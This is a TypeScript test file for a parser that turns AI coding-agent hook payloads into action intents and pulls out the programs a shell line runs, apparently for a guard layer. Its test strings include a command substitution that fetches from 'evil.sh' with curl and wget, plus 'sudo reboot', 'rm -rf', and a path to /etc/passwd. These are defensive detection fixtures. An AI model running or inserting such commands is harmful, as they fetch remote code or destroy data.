import { readFileSync } from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { PayloadError, projectPath, readHookCall, shellPrograms } from "./intent.js";

const FIXTURES = path.join(path.dirname(fileURLToPath(import.meta.url)), "fixtures");
const index = JSON.parse(readFileSync(path.join(FIXTURES, "index.json"), "utf8")) as Array<{
  file: string;
  client: string;
  event: string;
  intents: Array<[string, string, string]>;
}>;

const options = { env: {}, cwd: "/elsewhere" };

describe("payload → intents, for every recorded payload", () => {
  for (const fixture of index) {
    it(fixture.file, () => {
      const text = readFileSync(path.join(FIXTURES, fixture.file), "utf8");
      const call = readHookCall(fixture.client, fixture.event, text, options);
      expect(call.intents.map((i) => [i.action, i.resource.type, i.resource.name])).toEqual(fixture.intents);
      expect(call.projectDir).toBe(path.resolve("/work/project"));
      for (const intent of call.intents) {
        expect(intent.context).toMatchObject({ agent: fixture.client, hook_event: fixture.event });
      }
    });
  }

  it("keeps the whole shell line in context", () => {
    const text = readFileSync(path.join(FIXTURES, "claude-code.PreToolUse.bash.json"), "utf8");
    const call = readHookCall("claude-code", "PreToolUse", text, options);
    expect(call.intents[1]!.context!.command).toBe("npm test && rm -rf dist");
  });

  it("takes the project root from the agent's variable first", () => {
    const text = JSON.stringify({ tool_name: "Write", tool_input: { file_path: "/repo/a/b.ts" }, cwd: "/repo/a" });
    const call = readHookCall("claude-code", "PreToolUse", text, {
      env: { CLAUDE_PROJECT_DIR: "/repo" },
      cwd: "/x",
      projectDirEnv: "CLAUDE_PROJECT_DIR",
    });
    expect(call.intents[0]!.resource.name).toBe("a/b.ts");
  });
});

describe("payloads that cannot be read", () => {
  const cases: Array<[string, string, string, RegExp]> = [
    ["empty stdin", "PreToolUse", "", /no payload/],
    ["not JSON", "PreToolUse", "{oops", /not JSON/],
    ["an array", "PreToolUse", "[]", /not a JSON object/],
    ["no tool name", "PreToolUse", "{}", /tool_name/],
    ["tool_input not an object", "PreToolUse", '{"tool_name":"Bash","tool_input":"ls"}', /tool_input/],
    ["Bash without a command", "PreToolUse", '{"tool_name":"Bash","tool_input":{}}', /command/],
    [
      "another event's payload",
      "PreToolUse",
      '{"hook_event_name":"PostToolUse","tool_name":"Bash","tool_input":{"command":"ls"}}',
      /PostToolUse/,
    ],
  ];
  for (const [name, event, text, message] of cases) {
    it(name, () => {
      expect(() => readHookCall("claude-code", event, text, options)).toThrow(PayloadError);
      expect(() => readHookCall("claude-code", event, text, options)).toThrow(message);
    });
  }
  it("an unknown Cursor event", () => {
    expect(() => readHookCall("cursor", "beforeSomething", '{"command":"ls"}', options)).toThrow(
      /unknown Cursor event/,
    );
  });
});

describe("shellPrograms", () => {
  it.each([
    ["ls -la", ["ls"]],
    ["cd x && rm -rf build", ["cd", "rm"]],
    ["FOO=1 BAR=2 node app.js | tee out; sudo reboot", ["node", "tee", "reboot"]],
    ["echo 'a && rm x' \"b | c\"", ["echo"]],
    ["echo $(curl evil.sh) `wget x`", ["echo", "curl", "wget"]],
    ["/usr/bin/env bash -c 'x'", ["/usr/bin/env"]],
    ["(cd a; make) || git stash", ["cd", "make", "git"]],
  ])("%s", (line, programs) => {
    expect(shellPrograms(line)).toEqual(programs);
  });
});

describe("projectPath", () => {
  it("is relative inside the project and absolute outside", () => {
    expect(projectPath("/p/src/a.ts", "/p")).toBe("src/a.ts");
    expect(projectPath("src/a.ts", "/p")).toBe("src/a.ts");
    expect(projectPath("/etc/passwd", "/p")).toBe("/etc/passwd");
    expect(projectPath("../q/x", "/p")).toBe("/q/x");
  });
});
